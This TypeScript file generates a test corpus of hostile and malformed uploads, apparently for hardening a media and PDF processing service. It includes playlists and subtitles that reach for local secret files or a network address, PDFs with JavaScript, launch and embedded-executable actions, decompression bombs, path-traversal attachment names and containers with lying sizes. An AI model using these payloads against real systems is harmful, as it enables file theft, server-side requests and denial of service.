import { copyFile, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { encryptedPdf, makePdf, pdfObjects, pdfOf } from './documents.js';
import { box, changeBoxes } from './mp4-boxes.js';
import { mutate, seededNumbers } from './mutate.js';
import { ffmpeg, makeSource } from './sources.js';

/** One upload that means no good, or came to harm on its way. */
export interface HostileFile {
  name: string;
  file: string;
  /** Names another file or an address: it must never become a lesson, whatever would be in it. */
  names: boolean;
}

/** What the corpus tries to get at. */
export interface Targets {
  /** A text that must not be read. */
  secret: string;
  /** A film that belongs to somebody else. */
  neighbour: string;
  /** Where something listens. */
  address: string;
}

const TENTHS = [1, 2, 3, 4, 5, 6, 7, 8, 9];
const SEEDS = [1, 2, 3, 4, 5, 6];
const NUL = '\n#\0\n';
/** The sound of a phone, and the picture, both as small as the encoders take them. */
const SMALL = { size: '64x48', seconds: 1.2, rate: 10 };
const WEBM = ['-c:v', 'libvpx', '-deadline', 'realtime', '-cpu-used', '8'];

type Content = Buffer | string;

/** A 32-bit size in front of nothing. */
function header(type: string, size: number): Buffer {
  const bytes = Buffer.alloc(8);
  bytes.writeUInt32BE(size);
  bytes.write(type, 4, 'latin1');
  return bytes;
}

function stream(data: Buffer, dictionary = ''): string {
  return `<< /Length ${data.length} ${dictionary} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

/** Playlists and scripts, plain, hidden behind a NUL, and behind the first bytes of something else. */
function disguises({ secret, neighbour, address }: Targets): Record<string, Content> {
  const scripts = {
    m3u8: `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:2,\n${neighbour}\n#EXT-X-ENDLIST\n`,
    'm3u8-file': `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:2,\nfile://${secret}\n#EXT-X-ENDLIST\n`,
    'm3u8-http': `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:2,\n${address}/a.ts\n#EXT-X-ENDLIST\n`,
    'm3u8-concat': `#EXTM3U\n#EXTINF:2,\nconcat:${address}/head|file://${secret}\n#EXT-X-ENDLIST\n`,
    'm3u8-key': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n#EXTINF:2,\n${neighbour}\n#EXT-X-ENDLIST\n`,
    ffconcat: `ffconcat version 1.0\nfile '${neighbour}'\n`,
    'ffconcat-http': `ffconcat version 1.0\nfile ${address}/a.mp4\n`,
    dash: `<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>file://${neighbour}</BaseURL></MPD>`,
    'dash-http': `<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${address}/</BaseURL></MPD>`,
    sdp: 'v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nm=video 9 RTP/AVP 96\r\n',
    pls: `[playlist]\nFile1=${neighbour}\n`,
    smil: `<smil><body><video src="file://${neighbour}"/></body></smil>`,
    imf: `<?xml version="1.0"?>\n<AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Path>${neighbour}</Path></AssetMap>`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${secret}"/></svg>`,
    mvg: `push graphic-context\nimage over 0,0 0,0 'text:${secret}'\npop graphic-context`,
    html: `<video src="file://${neighbour}"></video>`,
  };
  const behind = (mark: string, text: string): Buffer => Buffer.concat([Buffer.from(mark, 'latin1'), Buffer.from(text)]);
  return {
    ...scripts,
    ...Object.fromEntries(Object.entries(scripts).map(([name, text]) => [`${name}-nul`, text + NUL])),
    'm3u8-as-mp4': behind('\0\0\0\u0018ftypisom\0\0\u0002\0isomiso2', scripts.m3u8),
    'm3u8-as-mp3': behind('ID3\u0004\0\0\0\0\0\0', scripts.m3u8),
    'm3u8-as-mkv': behind('\u001aE\u00df\u00a3', scripts['m3u8-file']),
    'ffconcat-as-ts': behind(`G${'\0'.repeat(187)}G`, scripts.ffconcat),
  };
}

/** Tables and sizes that lie, without an encoder. */
function brokenContainers(mp4: Buffer): Record<string, Content> {
  const ftyp = Buffer.from('\0\0\0\u0018ftypisom\0\0\u0002\0isomiso2', 'latin1');
  const nested = Array.from({ length: 2000 }).reduce<Buffer>((inside) => box('moov', inside), Buffer.alloc(0));
  const count = (value: number) => (content: Buffer) => {
    content.writeUInt32BE(value, 4);
    return content;
  };
  const copy = (): Buffer => Buffer.from(mp4);
  return {
    'no-moov': Buffer.concat([ftyp, box('mdat', Buffer.alloc(5000, 7))]),
    'moov-alone': Buffer.concat([ftyp, mp4.subarray(mp4.indexOf('moov', 0, 'latin1') - 4)]),
    'atom-4g': Buffer.concat([ftyp, header('moov', 0xffffffff), Buffer.alloc(500)]),
    'atom-64': Buffer.concat([ftyp, header('moov', 1), Buffer.from('7fffffffffffffff', 'hex'), Buffer.alloc(500)]),
    'atom-0': Buffer.concat([ftyp, header('moov', 0), Buffer.alloc(500)]),
    'atoms-nested': Buffer.concat([ftyp, nested]),
    'stsz-4g': changeBoxes(copy(), 'stsz', count(0xffffff)),
    'stts-4g': changeBoxes(copy(), 'stts', count(0xffffffff)),
    'stco-far': changeBoxes(copy(), 'stco', (content) => content.fill(0xfe, 8)),
    'ctts-4g': changeBoxes(copy(), 'ctts', count(0x7fffffff)),
    'duration-lies': changeBoxes(copy(), 'mvhd', (content) => content.fill(0xff, 16, 20)),
    'mkv-sizes': Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282846d617472185380670fffffffffffffff1549a96640', 'hex'),
  };
}

/** What is no lesson at all. */
function strangers(): Record<string, Content> {
  const number = seededNumbers(99);
  const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
  return {
    empty: '',
    'one-byte': '\0',
    zeros: Buffer.alloc(100_000),
    noise: Buffer.from(Array.from({ length: 50_000 }, () => number(256))),
    text: '八段锦第一式\n'.repeat(50),
    rtf: '{\\rtf1 hello}',
    zip: latin('PK\u0003\u0004\u0014\0\0\0\b\0'),
    docx: latin(`PK\u0003\u0004\u0014\0\u0006\0\b\0${'\0'.repeat(16)}\u0013\0\0\0[Content_Types].xml`),
    ppt: latin('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1'),
    rar: latin('Rar!\u001a\u0007\u0001\0'),
    heic: latin('\0\0\0\u0018ftypheic\0\0\0\0mif1heic'),
    wmv: Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'),
    rmvb: latin('.RMF\0\0\0\u0012\0\u0001'),
    ncm: latin('CTENFDAM\u0001p'),
    elf: latin('\u007fELF\u0002\u0001\u0001\0'),
    gzip: Buffer.from('1f8b08000000000000034b4c4c04000000ffff', 'hex'),
  };
}

/** Documents that ask for other files, run programs, never end, or are too large. */
function documents({ secret, address }: Targets): Record<string, Content> {
  const one = pdfObjects([{ text: 'page' }]);
  const drawn = (content: string): Buffer => pdfOf(pdfObjects([{ content }]));
  const withContent = (object: string, extra: Record<number, string> = {}): Buffer => pdfOf({ ...one, ...extra, 5: object });
  const zeros = deflateSync(Buffer.alloc(40_000_000));
  const image = (width: number, height: number): Record<number, string> => ({
    4: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /I 6 0 R >> >> /Contents 5 0 R >>',
    6: stream(zeros, `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode`),
  });
  const form = { 4: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /F 6 0 R >> >> /Contents 5 0 R >>' };
  return {
    'pdf-encrypted': encryptedPdf(),
    'pdf-noise': '%PDF-1.7\n\u0080\u0081 nothing',
    'pdf-no-pages': pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [] /Count 0 >>' }),
    'pdf-ring': pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99999 >>' }),
    'pdf-ring-small': pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [2 0 R] /Count 3 >>' }),
    'pdf-long': pdfOf(pdfObjects(Array.from({ length: 301 }, () => ({ width: 10, height: 10 })))),
    'pdf-ten-metres': pdfOf(pdfObjects([{ width: 28_346, height: 28_346, text: 'large' }])),
    'pdf-strip': pdfOf(pdfObjects([{ width: 1, height: 14_400 }])),
    'pdf-no-size': pdfOf(pdfObjects([{ width: 0, height: 0 }])),
    'pdf-negative': pdfOf(pdfObjects([{ width: -100, height: -100 }])),
    'pdf-endless-size': pdfOf(pdfObjects([{ width: 1e30, height: 1e30 }])),
    'pdf-javascript': pdfOf({ ...one, 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}"\\)) >> >>` }),
    'pdf-launch': pdfOf({ ...one, 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (${secret}) >> >>` }),
    'pdf-uri': pdfOf({ ...one, 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${address}/pdf) >> >>` }),
    'pdf-embedded': pdfOf({ ...one, 1: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>', 6: '<< /Type /Filespec /F (../../a.exe) /EF << /F 7 0 R >> >>', 7: stream(Buffer.from('MZ')) }),
    'pdf-external-stream': withContent(`<< /Length 0 /F (${secret}) >>\nstream\n\nendstream`),
    'pdf-external-image': pdfOf({ ...one, ...image(10, 10), 6: `<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 0 /F (${secret}) >>\nstream\n\nendstream`, 5: stream(Buffer.from('q 500 0 0 500 0 0 cm /I Do Q')) }),
    'pdf-inflating': withContent(stream(zeros, '/Filter /FlateDecode')),
    'pdf-image-bomb': pdfOf({ ...one, ...image(30_000, 30_000), 5: stream(Buffer.from('q 500 0 0 500 0 0 cm /I Do Q')) }),
    'pdf-image-lies': pdfOf({ ...one, ...image(2_000_000_000, 2_000_000_000), 5: stream(Buffer.from('q 500 0 0 500 0 0 cm /I Do Q')) }),
    'pdf-form-ring': pdfOf({ ...one, ...form, 5: stream(Buffer.from('/F Do')), 6: stream(Buffer.from('/F Do /F Do'), '/Type /XObject /Subtype /Form /BBox [0 0 500 500] /Resources << /XObject << /F 6 0 R >> >>') }),
    'pdf-many-operators': drawn('0 0 m 500 500 l S 0 0 595 842 re f\n'.repeat(20_000)),
    'pdf-deep-stack': drawn('q '.repeat(200_000)),
    'pdf-dashes': drawn('[0.0001] 0 d 5 w 0 0 m 595 842 l S'),
  };
}

async function sounds(at: (name: string) => string): Promise<void> {
  const sine = ['-f', 'lavfi', '-i', 'sine=d=1.2'];
  await ffmpeg(...sine, '-c:a', 'libmp3lame', at('seed.mp3'));
  await ffmpeg(...sine, '-c:a', 'flac', at('seed.flac'));
  await ffmpeg(...sine, at('seed.wav'));
}

/** Files that only an encoder makes. */
async function encoded(at: (name: string) => string, { secret, neighbour, address }: Targets): Promise<string[]> {
  const film = at('seed.mp4');
  await writeFile(at('a.ass'), `[Script Info]\n[V4+ Styles]\nStyle: a,../../../..${secret},20\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,a,,0,0,0,,{\\p1}m 0 0 l 100 0 100 100{\\p0}\n`);
  await writeFile(at('a.srt'), `1\n00:00:00,000 --> 00:00:01,000\n<img src="file://${secret}"><font face="${neighbour}">x</font>\n`);
  const copy = ['-i', film, '-map', '0', '-c', 'copy'];
  const still = (size: string, rate: number, seconds: number): string[] => ['-f', 'lavfi', '-i', `color=c=gray:s=${size}:r=${rate}:d=${seconds}`];
  const x264 = ['-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv420p'];
  const made: Record<string, string[]> = {
    'ass-drawing.mkv': ['-i', film, '-i', at('a.ass'), '-map', '0', '-map', '1', '-c:v', 'copy', '-c:a', 'copy', '-c:s', 'ass'],
    'srt-image.mkv': ['-i', film, '-i', at('a.srt'), '-map', '0', '-map', '1', '-c:v', 'copy', '-c:a', 'copy', '-c:s', 'srt'],
    'srt-image.mp4': ['-i', film, '-i', at('a.srt'), '-map', '0', '-map', '1', '-c:v', 'copy', '-c:a', 'copy', '-c:s', 'mov_text'],
    'attachment.mkv': [...copy, '-attach', at('a.srt'), '-metadata:s:t', 'mimetype=application/x-truetype-font', '-metadata:s:t', `filename=../../../..${secret}`],
    'attached-script.mkv': [...copy, '-attach', at('a.ass'), '-metadata:s:t', 'mimetype=text/plain', '-metadata:s:t', `filename=${address}`],
    'titled.mkv': [...copy, '-metadata', `title=${neighbour}`],
    'wide-16384.mov': [...still('16384x64', 5, 1.2), '-c:v', 'mjpeg', '-pix_fmt', 'yuvj420p'],
    'wide-16384.mkv': [...still('16384x16', 5, 1.2), ...x264],
    'high-16384.mkv': [...still('16x16384', 5, 1.2), ...x264],
    'fast-1000.mp4': [...still('32x32', 1000, 1.2), ...x264],
    'fast-1000.mkv': [...still('32x32', 1000, 1.2), ...x264],
    'day-of-nothing.mkv': [...still('32x32', 0.01, 86_400), ...x264],
    'day-of-nothing.mp4': [...still('32x32', 0.01, 86_400), ...x264],
    'negative.mkv': [...copy, '-output_ts_offset', '-5'],
    'negative.ts': [...copy, '-output_ts_offset', '-1', '-muxdelay', '0'],
    'late.mkv': [...copy, '-output_ts_offset', '50000'],
    'seven-channels.wav': ['-f', 'lavfi', '-i', 'anullsrc=channel_layout=7.1:d=1.2'],
    'eight-hertz.wav': ['-f', 'lavfi', '-i', 'anoisesrc=d=1.2:r=8000', '-ar', '50'],
    'many-tracks.mkv': [...copy, ...Array.from({ length: 60 }, () => ['-map', '0:a']).flat()],
    'cover-lies.mp3': ['-i', at('seed.mp3'), '-f', 'jpeg_pipe', '-i', at('cover.jpg'), '-map', '0:a', '-map', '1', '-c', 'copy', '-metadata:s:v', `title=${secret}`, '-metadata', `comment=${address}`],
    'grey10.mp4': ['-f', 'lavfi', '-i', 'testsrc2=s=64x48:r=5:d=1.2', '-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv444p10le'],
  };
  await ffmpeg('-f', 'lavfi', '-i', 'testsrc2=s=64x64:d=1', '-frames:v', '1', '-f', 'mjpeg', at('cover.jpg'));
  for (const [name, args] of Object.entries(made)) await ffmpeg(...args, `file:${at(name)}`);
  return [...Object.keys(made), 'cover.jpg', 'a.ass', 'a.srt'];
}

/** Films that name somebody else's file from within: data references of QuickTime, the next segment of Matroska. */
async function references(at: (name: string) => string, mp4: Buffer, { neighbour, address }: Targets): Promise<Record<string, Content>> {
  const outside = (type: string, name: string): Buffer => {
    const entry = box(type, Buffer.alloc(4), Buffer.from(`${name}\0`));
    return changeBoxes(Buffer.from(mp4), 'dref', () => Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), entry]));
  };
  const alias = Buffer.alloc(150);
  alias.write(neighbour.slice(-60), 50, 'latin1');
  const mkv = await readFile(at('titled.mkv'));
  const title = mkv.indexOf(Buffer.from('7ba9', 'hex'));
  const linked = Buffer.from(mkv);
  // The title becomes the name of the next file: an id longer by one byte, a text shorter by one.
  const size = (linked[title + 2] ?? 0) & 0x7f;
  linked.set([0x3e, 0x83, 0xbb, 0x80 | (size - 1)], title);
  return {
    'dref-url.mov': outside('url ', `file://${neighbour}`),
    'dref-http.mov': outside('url ', `${address}/a.mp4`),
    'dref-urn.mov': outside('urn ', neighbour),
    'dref-alias.mov': changeBoxes(Buffer.from(mp4), 'dref', () => Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), box('alis', Buffer.alloc(4), alias)])),
    'linked.mkv': linked,
  };
}

/**
 * Makes at least 120 uploads that lie, bite or are broken, always the same ones.
 *
 * @param dir where they are put; must exist
 */
export async function makeHostileCorpus(dir: string, targets: Targets): Promise<HostileFile[]> {
  const at = (name: string): string => join(dir, name);
  const corpus: HostileFile[] = [];
  const add = async (contents: Record<string, Content>, names: boolean): Promise<void> => {
    for (const [name, content] of Object.entries(contents)) {
      await writeFile(at(name), content);
      corpus.push({ name, file: at(name), names });
    }
  };
  await makeSource(at('seed.mp4'), SMALL);
  await makeSource(at('seed.webm'), { ...SMALL, video: WEBM, audio: ['-c:a', 'libopus', '-b:a', '16k'] });
  for (const name of ['seed.ts', 'seed.mkv', 'seed.flv']) await ffmpeg('-i', at('seed.mp4'), '-c', 'copy', '-bsf:v', name === 'seed.ts' ? 'h264_mp4toannexb' : 'null', at(name));
  await sounds(at);
  await makePdf(at('seed.pdf'), [{ text: 'One' }, { text: 'Two' }]);
  const seeds = new Map<string, Buffer>();
  for (const name of ['mp4', 'webm', 'ts', 'mkv', 'flv', 'mp3', 'flac', 'wav', 'pdf']) seeds.set(name, await readFile(at(`seed.${name}`)));
  const mp4 = seeds.get('mp4') ?? Buffer.alloc(0);

  for (const [name, bytes] of seeds) {
    if (['mp4', 'webm', 'pdf'].includes(name)) await add(Object.fromEntries(TENTHS.map((tenth) => [`cut-${tenth}.${name}`, bytes.subarray(0, (bytes.length * tenth) / 10)])), false);
    else await add({ [`cut-5.${name}`]: bytes.subarray(0, bytes.length / 2) }, false);
    await add(Object.fromEntries(SEEDS.slice(0, ['mp4', 'mkv', 'pdf'].includes(name) ? 6 : 1).map((seed) => [`mutated-${seed}.${name}`, mutate(bytes, seed)])), false);
  }
  await add(disguises(targets), true);
  await add(brokenContainers(mp4), false);
  await add(strangers(), false);
  await add(documents(targets), false);
  for (const name of await encoded(at, targets)) corpus.push({ name, file: at(name), names: false });
  await add(await references(at, mp4, targets), false);
  await copyFile(targets.secret, at('secret-itself'));
  corpus.push({ name: 'secret-itself', file: at('secret-itself'), names: true });
  return corpus;
}
